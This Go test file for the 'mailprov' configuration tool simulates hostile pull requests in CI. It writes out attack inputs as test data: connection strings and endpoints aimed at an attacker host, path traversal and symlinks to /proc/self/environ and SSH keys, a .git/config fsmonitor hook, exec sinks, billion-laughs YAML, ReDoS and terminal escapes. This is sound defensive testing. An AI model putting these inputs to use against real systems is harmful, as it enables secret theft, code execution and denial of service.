package e2e

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io/fs"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/mailprov/mailprov/internal/sandbox"
)

// A pull request from somebody else is planned before anybody has read it, with
// an identity in the environment. These tests are such pull requests: each tries
// one thing, and none may get a connection, a file, a process, or the machine.

// attack is what a pull request brings.
type attack struct {
	files    map[string]string // beside the honest configuration
	settings string            // in its block mailprov, in place of a backend
	tenant   string            // in its block tenant, in place of the id
	links    map[string]string // name in the directory → where it leads
	env      map[string]string // of the job, where the attack needs more than the usual
	says     string            // of at least one command: that the attack was noticed. Empty where it is merely without effect.
	fine     bool              // the configuration is valid all the same
	slow     bool              // the first commands are enough
}

// canaries are what the job's environment and the machine hold, and what no
// command may ever show.
const (
	tokenCanary  = "canary-of-the-token-5d1f"
	keyCanary    = "Y2FuYXJ5LW9mLXRoZS1zdG9yYWdlLWtleQ=="
	pgCanary     = "canary-of-the-database-77ab"
	fileCanary   = "canary-of-a-file-outside-c0de"
	variableText = "canary-of-a-variable-19e4"
)

// machine is where a pull request is planned: a directory with the
// configuration, others beside it, and an address of the attacker's.
type machine struct {
	*project
	outside string // directory beside the configuration, with files
	home    string
	trips   string // directory that every program of PATH writes into
	evil    string // host:port of the attacker
	calls   *atomic.Int32
}

// honest is the configuration that a pull request changes.
func honest(settings, tenant string) string {
	if tenant == "" {
		tenant = `id = "11111111-2222-3333-4444-555555555555"`
	}
	return "mailprov {\n  name = \"honest\"\n  " + settings + "\n}\n\ntenant {\n  " + tenant + "\n}\n" + application
}

const application = `

sink "sealed" "team" {
  recipients = { admin = "{admin}", safe = "{safe}" }
}

app_registration "mail" {
  display_name = "Mail sender"

  api_permissions "microsoft_graph" {
    application = ["Mail.Send"]
  }
  admin_consent = true
}

client_secret "mail" {
  app           = app_registration.mail
  lifetime      = "90d"
  rotate_before = "30d"
  deliver_to    = [sink.team]

  retire {
    on    = "delivery"
    after = "14d"
  }
}
`

func newMachine(t *testing.T, tn *tenant, a attack) *machine {
	t.Helper()
	m := &machine{calls: new(atomic.Int32)}
	m.evil = listener(t, m.calls)
	settings := a.settings
	if settings == "" {
		settings = `backend "local" { path = "mailprov.state.json" }`
	}
	m.project = newProject(t, tn, nil)
	root := t.TempDir()
	m.outside, m.home, m.trips = filepath.Join(root, "outside"), m.env["HOME"], filepath.Join(root, "trips")
	write(t, filepath.Join(m.outside, "secret.txt"), fileCanary+"\n")
	write(t, filepath.Join(m.outside, "secret.json"), `{"version": "`+fileCanary+`"}`)
	write(t, filepath.Join(m.home, ".ssh", "id_rsa"), fileCanary+"\n")
	dir := filepath.Join(root, "config")
	if err := os.Rename(m.dir, dir); err != nil {
		t.Fatal(err)
	}
	m.dir = dir
	tripwires(t, filepath.Join(root, "bin"), m.trips)
	fill := strings.NewReplacer("{evil}", m.evil, "{evilport}", m.evil[strings.LastIndex(m.evil, ":")+1:], "{outside}", m.outside, "{home}", m.home,
		"{bin}", filepath.Join(root, "bin"), "{admin}", m.admin, "{safe}", m.safe)
	write(t, filepath.Join(dir, "main.mailprov.hcl"), fill.Replace(honest(settings, a.tenant)))
	for name, content := range a.files {
		write(t, filepath.Join(dir, name), fill.Replace(content))
	}
	for name, target := range a.links {
		path := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Remove(path); err != nil && !errors.Is(err, fs.ErrNotExist) {
			t.Fatal(err)
		}
		if err := os.Symlink(fill.Replace(target), path); err != nil {
			t.Fatal(err)
		}
	}
	for k, v := range map[string]string{
		"CI": "true", "GITHUB_ACTIONS": "true", "PATH": filepath.Join(root, "bin"), effortVariable: "6,250",
		"ACTIONS_ID_TOKEN_REQUEST_TOKEN": tokenCanary, "GITHUB_TOKEN": tokenCanary, "AZURE_STORAGE_KEY": keyCanary, "PGPASSWORD": pgCanary,
		"MAILPROV_VAR_token": variableText,
	} {
		m.env[k] = v
	}
	for k, v := range a.env {
		m.env[k] = fill.Replace(v)
	}
	return m
}

// listener is an address of the attacker's: whoever connects is counted, and
// served as what it might have taken the address for.
func listener(t *testing.T, calls *atomic.Int32) string {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			calls.Add(1)
			c.Close()
		}
	}()
	return l.Addr().String()
}

// tripwires fills a directory with programs that leave a trace and nothing else.
func tripwires(t *testing.T, dir, trips string) {
	t.Helper()
	if err := os.MkdirAll(trips, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"sh", "bash", "git", "az", "xdg-open", "x-www-browser", "open", "curl", "docker", "pass", "gpg", "ssh", "ssh-keygen", "age", "age-plugin-evil", "keyctl", "dbus-launch", "tripwire"} {
		path := filepath.Join(dir, name)
		write(t, path, "#!/bin/sh\n: > "+filepath.Join(trips, name)+"\n")
		if err := os.Chmod(path, 0o755); err != nil {
			t.Fatal(err)
		}
	}
}

// tree is every file below a directory with its content, mode and time.
func tree(t *testing.T, dir string) string {
	t.Helper()
	var b strings.Builder
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		info, err := d.Info()
		if err != nil {
			return err
		}
		fmt.Fprintf(&b, "%s %s %s\n", path, info.Mode(), info.ModTime())
		if info.Mode().IsRegular() {
			b.WriteString(read(t, path))
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// lookers are the commands that a job of a pull request may run.
func lookers() [][]string {
	return [][]string{
		{"validate"}, {"plan", "-input=false"}, {"plan", "-json"}, {"init", "-input=false"}, {"fmt", "-check", "-diff", "-recursive"},
		{"show"}, {"status"}, {"emit"}, {"output", "-json"}, {"state", "pull"}, {"verify"}, {"drift"}, {"doctor"},
	}
}

// patience is how long any command may take; the honest ones take a second.
const patience = 60 * time.Second

// look runs one command to its end or to that of our patience.
func (m *machine) look(args []string) result {
	m.t.Helper()
	var out, errs bytes.Buffer
	cmd := m.command(args, &out, &errs)
	ctx, cancel := context.WithTimeout(m.t.Context(), patience)
	defer cancel()
	if err := cmd.Start(); err != nil {
		m.t.Fatal(err)
	}
	stop := context.AfterFunc(ctx, func() { _ = cmd.Process.Kill() })
	defer stop()
	err := cmd.Wait()
	var exit *exec.ExitError
	if err != nil && !errors.As(err, &exit) {
		m.t.Fatal(err)
	}
	if ctx.Err() != nil {
		m.t.Errorf("mailprov %s does not end", strings.Join(args, " "))
	}
	return ended(cmd, args, &out, &errs)
}

func attacks() map[string]attack {
	one := func(name, hcl string) map[string]string { return map[string]string{name: hcl} }
	postgres := func(conn string) string {
		return "backend \"postgres\" {\n  conn_str = \"" + conn + "\"\n  name = \"x\"\n}"
	}
	vault := func(address string) attack {
		return attack{files: one("x.mailprov.hcl", `sink "azure_key_vault" "x" { vault = "`+address+`" }`), says: "vault"}
	}
	local := func(expr string) map[string]string {
		return one("x.mailprov.hcl", "locals {\n  x = "+expr+"\n}\noutput \"x\" { value = local.x }\n")
	}
	// A sink has to be of use to somebody before its place is looked at.
	sink := func(kind, body string) map[string]string {
		return one("x.mailprov.hcl", fmt.Sprintf("sink %q \"x\" {\n%s\n}\nclient_secret \"x\" {\n  app = app_registration.mail\n  deliver_to = [sink.x]\n  retire { on = \"delivery\" }\n}\n", kind, body))
	}
	doubling := func(first, step string) string {
		var b strings.Builder
		b.WriteString("locals {\n  x0 = " + first + "\n")
		for i := range 60 {
			fmt.Fprintf(&b, "  x%d = %s\n", i+1, strings.ReplaceAll(step, "X", fmt.Sprintf("local.x%d", i)))
		}
		return b.String() + "}\noutput \"x\" { value = local.x60 }\n"
	}
	escapes := "\\u001b]0;owned\\u0007\\u001b[2J\\u202e"
	return map[string]attack{
		// Somewhere else.
		"a database of the attacker's":               {settings: postgres("postgres://ci@{evil}/state"), says: "MP527"},
		"a database among others":                    {settings: postgres("host=localhost,127.0.0.1 port=1,{evilport} dbname=x user=ci"), says: "MP527"},
		"a service of the attacker's":                {settings: postgres("service=evil servicefile={outside}/secret.txt"), says: "conn_str"},
		"a password file for a database":             {settings: postgres("host=127.0.0.1 port={evilport} passfile={outside}/secret.txt"), says: "conn_str"},
		"a key file for a database":                  {settings: postgres("postgres://ci@{evil}/x?sslkey={outside}/secret.txt&sslcert={outside}/secret.txt"), says: "conn_str"},
		"a database without encryption":              {settings: postgres("postgres://ci@{evil}/x?sslmode=disable"), says: "conn_str"},
		"a storage account that is an address":       {settings: "backend \"azblob\" {\n account = \"{evil}/x\"\n container = \"c\"\n key = \"k\"\n}", says: "storage account"},
		"an endpoint of a storage account":           {settings: "backend \"azblob\" {\n account = \"mpstate\"\n container = \"c\"\n key = \"k\"\n endpoint = \"https://{evil}\"\n}", says: "MP602"},
		"a vault of the attacker's":                  vault("https://{evil}"),
		"a vault behind a user name":                 vault("https://kv-mail.vault.azure.net@{evil}"),
		"a vault before a fragment":                  vault("https://{evil}#.vault.azure.net"),
		"a vault before a path":                      vault("https://{evil}/.vault.azure.net"),
		"a vault below another domain":               vault("https://kv-mail.vault.azure.net.evil.example"),
		"a vault in plain text":                      vault("http://kv-mail.vault.azure.net"),
		"a vault on another port":                    vault("https://kv-mail.vault.azure.net:8443"),
		"a Graph of the attacker's":                  {files: one("x.mailprov.hcl", `tenant { graph_endpoint = "https://{evil}" }`), says: "MP60"},
		"a tenant that is an address":                {tenant: `id = "{evil}/x"`, says: "tenant"},
		"a cloud that is an address":                 {tenant: `id = "11111111-2222-3333-4444-555555555555"` + "\ncloud = \"https://{evil}\"", says: "cloud"},
		"a developer's login":                        {tenant: `id = "11111111-2222-3333-4444-555555555555"` + "\nauth = \"cli\"", says: "automation"},
		"a browser":                                  {tenant: `id = "11111111-2222-3333-4444-555555555555"` + "\nauth = \"browser\"", says: "automation"},
		"variables of the tool, in files":            {files: map[string]string{".env": "MAILPROV_GRAPH_ENDPOINT=https://{evil}\n", "mailprov.env": "MAILPROV_LOGIN_ENDPOINT=https://{evil}\n", ".mailprovrc": "graph_endpoint = https://{evil}\n"}, fine: true},
		"a backend that was used before":             {files: one(".mailprov/backend.json", `{"version":1,"used":[{"name":"honest","tenant":"11111111-2222-3333-4444-555555555555","backend":"postgres","settings":{"conn_str":"postgres://ci@{evil}/x"}}]}`)},
		"an id-token from an address without https":  {env: map[string]string{"AZURE_CLIENT_SECRET": "", "ACTIONS_ID_TOKEN_REQUEST_URL": "http://{evil}/token"}, says: "https"},
		"hosts let in by the configuration":          {files: one("x.mailprov.hcl", "variable \"MAILPROV_ALLOW_HOSTS\" { default = \"{evil}\" }\nsink \"azure_key_vault\" \"x\" { vault = \"https://{evil}\" }"), says: "MP318"},
		"hosts let in that cannot be":                {env: map[string]string{"MAILPROV_ALLOW_HOSTS": "https://{evil}"}, says: "MP417"},
		"an old name of a vault in another's domain": vault("https://evil.azurewebsites.net"),

		// A file.
		"a file above":                        {files: local(`file("../outside/secret.txt")`), says: "outside"},
		"a file by its whole path":            {files: local(`file("{outside}/secret.txt")`), says: "outside"},
		"a file behind a link":                {files: local(`file("link")`), links: map[string]string{"link": "{outside}/secret.txt"}, says: "outside"},
		"a file behind a linked folder":       {files: local(`filebase64("link/secret.txt")`), links: map[string]string{"link": "{outside}"}, says: "outside"},
		"whether there is a file":             {files: local(`fileexists("{home}/.ssh/id_rsa")`), says: "outside"},
		"a template above":                    {files: local(`templatefile("../outside/secret.txt", {})`), says: "outside"},
		"the environment of the process":      {files: local(`file("/proc/self/environ")`), says: "outside"},
		"the environment, by a link":          {files: local(`file("e")`), links: map[string]string{"e": "/proc/self/environ"}, says: "outside"},
		"standard input":                      {files: local(`file("/dev/stdin")`), says: "outside"},
		"a device without end":                {files: local(`filebase64("zero")`), links: map[string]string{"zero": "/dev/zero"}, says: "outside"},
		"a configuration that is a link":      {links: map[string]string{"x.mailprov.hcl": "{outside}/secret.txt"}, says: "MP503"},
		"a configuration that is a process":   {links: map[string]string{"x.mailprov.hcl": "/proc/self/environ"}, says: "MP503"},
		"a configuration without end":         {links: map[string]string{"x.mailprov.hcl": "/dev/zero"}, says: "MP503"},
		"a configuration in JSON, linked":     {links: map[string]string{"x.mailprov.json": "{outside}/secret.json"}, says: "MP503"},
		"variables that are a link":           {links: map[string]string{"x.auto.mpvars.hcl": "/proc/self/environ"}, says: "MP503"},
		"variables without end":               {links: map[string]string{"mailprov.mpvars.hcl": "/dev/zero"}, says: "MP503"},
		"a state above":                       {settings: `backend "local" { path = "../outside/secret.json" }`, says: "MP418"},
		"a state by its whole path":           {settings: `backend "local" { path = "{outside}/secret.json" }`, says: "MP418"},
		"a state behind a link":               {links: map[string]string{stateFile: "{outside}/secret.json"}, says: "MP418"},
		"a state that is a process":           {links: map[string]string{stateFile: "/proc/self/environ"}, says: "MP418"},
		"a state without end":                 {links: map[string]string{stateFile: "/dev/zero"}, says: "MP418"},
		"a lock behind a link":                {links: map[string]string{stateFile + ".lock": "{outside}/lock", stateFile + ".lock.info": "{outside}/secret.json"}},
		"a folder of ours behind a link":      {links: map[string]string{".mailprov": "{outside}"}, fine: true},
		"a file of ours behind a link":        {links: map[string]string{".mailprov/.gitignore": "{outside}/made", ".mailprov/backend.json": "{outside}/secret.json"}, fine: true},
		"a memory of ours without end":        {links: map[string]string{".mailprov/backend.json": "/dev/zero"}, fine: true},
		"a left state behind a link":          {links: map[string]string{"errored.state.json": "{outside}/secret.json"}},
		"settings above":                      {files: one("x.mailprov.hcl", mailTarget(`emit "html" { path = "../outside/x.html" }`)), says: "outside"},
		"settings behind a link":              {files: one("x.mailprov.hcl", mailTarget(`emit "html" { path = "out/x.html" }`)), links: map[string]string{"out": "{outside}"}, says: "outside"},
		"a secret in a file above":            {files: sink("file", `path = "../outside/x.txt"`), says: "MP306"},
		"a secret behind a link":              {files: sink("file", `path = "out/x.txt"`), links: map[string]string{"out": "{outside}"}, says: "MP306"},
		"a secret in a file of variables":     {files: sink("env_file", "path = \"{home}/.profile\"\nvariable = \"X\""), says: "MP306"},
		"a secret in an age file above":       {files: sink("age_file", "path = \"../outside/x.age\"\nrecipients = { a = \"{admin}\" }"), says: "MP306"},
		"a secret in a manifest above":        {files: sink("kubernetes_secret", "path = \"../outside/x.yaml\"\nname = \"x\"\nkey = \"x\""), says: "MP306"},
		"rules of version control, endless":   {files: sink("file", `path = "x.txt"`), links: map[string]string{".gitignore": "/dev/zero", ".git": "{outside}"}},
		"rules of version control, elsewhere": {files: map[string]string{".git/HEAD": "ref: refs/heads/main\n", ".git/config": "[core]\n\tfsmonitor = {bin}/tripwire\n\tpager = {bin}/tripwire\n[include]\n\tpath = {outside}/secret.txt\n", "x.mailprov.hcl": sink("file", `path = "x.txt"`)["x.mailprov.hcl"]}, links: map[string]string{".gitignore": "{outside}/secret.txt"}},
		"keys named by the configuration":     {settings: "state_encryption {\n recipients = { a = \"{admin}\" }\n identity = \"{home}/.ssh/id_rsa\"\n}", says: "MP602"},
		"a recipient that is a file":          {files: one("x.mailprov.hcl", `sink "sealed" "x" { recipients = { a = "{outside}/secret.txt" } }`), says: "recipient"},
		"a time zone that is a file":          {settings: "time_zone = \"../../../../..{outside}/secret.txt\"", says: "time_zone"},

		// A variable of the job.
		"the environment by a function":      {files: local(`env("AZURE_CLIENT_SECRET")`), says: "MP616"},
		"the environment by an object":       {files: local(`env.AZURE_CLIENT_SECRET`), says: "MP606"},
		"the environment in a path":          {settings: `backend "local" { path = "$AZURE_CLIENT_SECRET/%AZURE_CLIENT_SECRET%/~/x.json" }`, fine: true},
		"the environment by a variable":      {files: one("x.mailprov.hcl", "variable \"AZURE_CLIENT_SECRET\" { type = string }\noutput \"x\" { value = var.AZURE_CLIENT_SECRET }"), says: "MP624"},
		"the environment in a template":      {files: map[string]string{"t.tpl": "$${env.AZURE_CLIENT_SECRET} ${AZURE_CLIENT_SECRET}", "x.mailprov.hcl": local(`templatefile("t.tpl", {})`)["x.mailprov.hcl"]}, says: "MP6"},
		"a sensitive variable in an output":  {files: one("x.mailprov.hcl", "variable \"token\" {\n type = string\n sensitive = true\n}\noutput \"x\" { value = var.token }"), says: "sensitive"},
		"a sensitive variable in an address": {files: one("x.mailprov.hcl", "variable \"token\" {\n type = string\n sensitive = true\n}\nsink \"azure_key_vault\" \"x\" { vault = \"https://${var.token}.{evil}\" }")},

		// A process.
		"a program as a sink":         {files: sink("exec", `command = ["{bin}/tripwire"]`)},
		"a program by its name":       {files: sink("exec", `command = ["tripwire"]`)},
		"a recipient with a plugin":   {files: one("x.mailprov.hcl", `sink "sealed" "x" { recipients = { a = "age1evil1qwt50d05nh5vutpdzmlg5wn80xq5negm4uj9ghv0snvdd3yysf5yw3rhl3t" } }`), says: "plugin"},
		"a provider":                  {files: one("x.mailprov.hcl", "terraform {\n required_providers {\n  x = { source = \"{evil}/x/x\" }\n }\n}\nprovider \"x\" {}"), says: "MP6"},
		"a module from the network":   {files: one("x.mailprov.hcl", `module "x" { source = "git::https://{evil}/x.git" }`)},
		"a provisioner":               {files: one("x.mailprov.hcl", "app_registration \"x\" {\n display_name = \"x\"\n provisioner \"local-exec\" { command = \"tripwire\" }\n}"), says: "MP6"},
		"an external source of data":  {files: one("x.mailprov.hcl", `data "external" "x" { program = ["tripwire"] }`), says: "MP6"},
		"a product with instructions": {files: one("x.mailprov.hcl", "product \"x\" {\n title = \"x\"\n command = \"tripwire\"\n}"), says: "MP"},

		// The machine.
		"text that doubles":                 {files: one("x.mailprov.hcl", doubling(`"0123456789abcdef"`, `"${X}${X}"`)), says: "MP419", slow: true},
		"lists that double":                 {files: one("x.mailprov.hcl", doubling(`["x"]`, `concat(X, X)`)), says: "MP419", slow: true},
		"maps within maps":                  {files: one("x.mailprov.hcl", doubling(`"x"`, `{ a = X, b = X, c = jsonencode(X) }`)), says: "MP419", slow: true},
		"for within for":                    {files: local(`[for a in range(1000) : [for b in range(1000) : [for c in range(1000) : [for d in range(1000) : "${a}${b}${c}${d}"]]]]`), says: "MP419", slow: true},
		"a product of sets":                 {files: local(`setproduct(range(1000), range(1000), range(1000), range(1000))`), says: "MP617"},
		"applications without number":       {files: one("x.mailprov.hcl", "app_registration \"x\" {\n for_each = toset([for p in setproduct(range(1000), range(1000)) : \"${p[0]}-${p[1]}\"])\n display_name = each.key\n}"), says: "MP"},
		"text replaced by more":             {files: local(`replace(join("", [for i in range(1000) : "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"]), "a", join("", [for i in range(1000) : "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"]))`), says: "MP617"},
		"text joined by more":               {files: local(`join(join("", [for i in range(1000) : join("", [for j in range(100) : "bbbbbbbbbb"])]), range(1000))`), says: "MP617"},
		"blanks without number":             {files: local(`indent(100000000000, "a\nb")`), says: "MP617"},
		"a wide format":                     {files: local(`format("%099999999999d", 1)`), says: "MP617"},
		"an expression that tries for ever": {files: local(`regexall("(a*)*(a*)*(a|aa)+b", join("", [for i in range(1000) : "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"]))`), fine: true},
		"an expression that repeats":        {files: local(`regex("((((a{1000}){1000}){1000}){1000})", "a")`), says: "MP617"},
		"a number without end":              {files: local(`pow(10, 999999999)`), says: "MP"},
		"brackets without end":              {files: local(strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000)), says: "MP636"},
		"JSON without end":                  {files: one("x.mailprov.json", `{"locals":{"x":`+strings.Repeat("[", 100_000)+strings.Repeat("]", 100_000)+`}}`), says: "MP636"},
		"laughter in YAML":                  {files: map[string]string{"x.yaml": laughter(), "x.mailprov.hcl": local(`yamldecode(file("x.yaml"))`)["x.mailprov.hcl"]}, says: "MP"},
		"variables of forty megabytes":      {files: one("x.auto.mpvars.hcl", "x = \""+strings.Repeat("a", 40<<20)+"\"\n"), says: "MP503"},
		"errors without number":             {files: one("x.mailprov.hcl", strings.Repeat("a b c\n", 20_000)), says: "more findings are not shown", slow: true},

		// The reader's terminal.
		"names that steer a terminal":  {files: one("x.mailprov.hcl", "app_registration \"x\" {\n display_name = \""+escapes+"\"\n notes = \""+escapes+"\"\n}\noutput \"x\" { value = \""+escapes+"\" }")},
		"errors that steer a terminal": {files: one("x.mailprov.hcl", "\x1b]0;owned\x07 = \"\x1b[2J\u202e\"\n"), says: "MP6"},
		"layout that steers one":       {files: one("x.mailprov.hcl", "locals {\nx   = \"\x1b]0;owned\x07\x1b[2J\"\n}\n")},
	}
}

func mailTarget(more string) string {
	return "mail_target \"palettetree\" \"x\" {\n  secret = client_secret.mail\n  mailbox = \"noreply@example.co.jp\"\n  " + more + "\n}\n"
}

// laughter is a document whose aliases stand for a billion elements.
func laughter() string {
	var b strings.Builder
	b.WriteString("a0: &a0 [x,x,x,x,x,x,x,x,x,x]\n")
	for i := range 12 {
		fmt.Fprintf(&b, "a%d: &a%d [%s]\n", i+1, i+1, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*a%d,", i), 10), ","))
	}
	return b.String()
}

// steers are characters by which text steers a terminal.
var steers = regexp.MustCompile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u0080-\u009f\u202a-\u202e\u2066-\u2069]")

var bidi = regexp.MustCompile("[\u202a-\u202e\u2066-\u2069]")

// TestAHostilePullRequestGetsNothing plans, validates and looks at what each of
// the attacks brings. The program may refuse or not care; it never connects to
// the attacker, opens or changes a file outside of the directory, starts a
// program, shows what it was entrusted with, or runs on.
func TestAHostilePullRequestGetsNothing(t *testing.T) {
	t.Parallel()
	for name, a := range attacks() {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			tn := serve(t, newClock(morning, 1), sandbox.Options{NoQuota: true}, nil)
			m := newMachine(t, tn, a)
			before := tree(t, m.outside) + tree(t, m.home)
			opened := watch(t, m.outside, filepath.Join(m.home, ".ssh"))
			said := ""
			for i, args := range lookers() {
				if a.slow && i > 4 {
					break
				}
				r := m.look(args)
				said += r.stdout + r.stderr
				m.harmless(r)
				if args[0] == "validate" && a.fine && r.code != 0 {
					t.Errorf("what has no effect is an error: %s", r)
				}
			}
			if a.says != "" && !strings.Contains(said, a.says) {
				t.Errorf("no command says %q:\n%s", a.says, cut(said))
			}
			if n := m.calls.Load(); n != 0 {
				t.Errorf("%d connections to the attacker", n)
			}
			if list := opened(); len(list) > 0 {
				t.Errorf("opened outside of the directory: %v", list)
			}
			if tree(t, m.outside)+tree(t, m.home) != before {
				t.Error("something outside of the directory has changed")
			}
			if tripped, _ := os.ReadDir(m.trips); len(tripped) > 0 {
				t.Errorf("programs were started: %v", tripped)
			}
			for _, w := range tn.log() {
				if w.Method != "GET" && w.Template != "TOKEN" && !strings.Contains(w.Template, "$batch") {
					t.Errorf("the tenant was written to: %s %s", w.Method, w.Template)
				}
			}
		})
	}
}

// harmless holds a command against what none may do.
func (m *machine) harmless(r result) {
	m.t.Helper()
	for _, out := range []string{r.stdout, r.stderr} {
		for what, canary := range map[string]string{
			"the identity's secret": m.env["AZURE_CLIENT_SECRET"], "a token": tokenCanary, "the storage key": keyCanary, "the database's password": pgCanary,
			"a file": fileCanary, "a sensitive variable": variableText,
		} {
			if canary != "" && strings.Contains(out, canary) {
				m.t.Errorf("mailprov %s shows %s:\n%s", strings.Join(r.args, " "), what, cut(out))
			}
		}
		shown := out
		if slices.Contains(r.args, "-json") {
			shown = bidi.ReplaceAllString(out, "") // JSON writes them as they are, and escapes what a terminal obeys
		}
		if at := steers.FindStringIndex(shown); at != nil {
			m.t.Errorf("mailprov %s steers the terminal: %q", strings.Join(r.args, " "), shown[max(0, at[0]-40):min(len(shown), at[1]+40)])
		}
		if len(out) > 8<<20 {
			m.t.Errorf("mailprov %s says %d bytes", strings.Join(r.args, " "), len(out))
		}
	}
	if strings.Contains(r.stderr, "goroutine ") || r.code != 0 && r.code != 1 && r.code != 2 {
		m.t.Errorf("mailprov %s breaks with %d:\n%s", strings.Join(r.args, " "), r.code, cut(r.stderr))
	}
	if r.code == 1 && strings.TrimSpace(r.stderr) == "" && !strings.Contains(r.stdout, "MP") {
		m.t.Errorf("mailprov %s fails without a word", strings.Join(r.args, " "))
	}
	if r.usage.Maxrss > maxResident {
		m.t.Errorf("mailprov %s took %d MiB", strings.Join(r.args, " "), r.usage.Maxrss>>10)
	}
}

// maxResident is in KiB: what evaluating may take here, and as much again for
// what the program needs anyway and takes until it has noticed.
const maxResident = 1200 << 10

func cut(s string) string {
	if len(s) > 3000 {
		return s[:1500] + "\n…\n" + s[len(s)-1500:]
	}
	return s
}

// TestAPipeInTheDirectoryIsNoFile reads nothing that might never end.
func TestAPipeInTheDirectoryIsNoFile(t *testing.T) {
	t.Parallel()
	tn := serve(t, newClock(morning, 1), sandbox.Options{NoQuota: true}, nil)
	for name, pipe := range map[string]string{"read by a function": "pipe", "in place of a configuration": "pipe.mailprov.hcl", "in place of variables": "mailprov.mpvars.hcl", "in place of the state": stateFile} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			m := newMachine(t, tn, attack{files: map[string]string{"x.mailprov.hcl": "locals { x = fileexists(\"pipe\") ? file(\"pipe\") : \"\" }\noutput \"x\" { value = local.x }"}})
			if err := syscall.Mkfifo(filepath.Join(m.dir, pipe), 0o600); err != nil {
				t.Fatal(err)
			}
			for _, args := range [][]string{{"validate"}, {"plan"}, {"fmt", "-check"}, {"status"}} {
				m.harmless(m.look(args))
			}
		})
	}
}
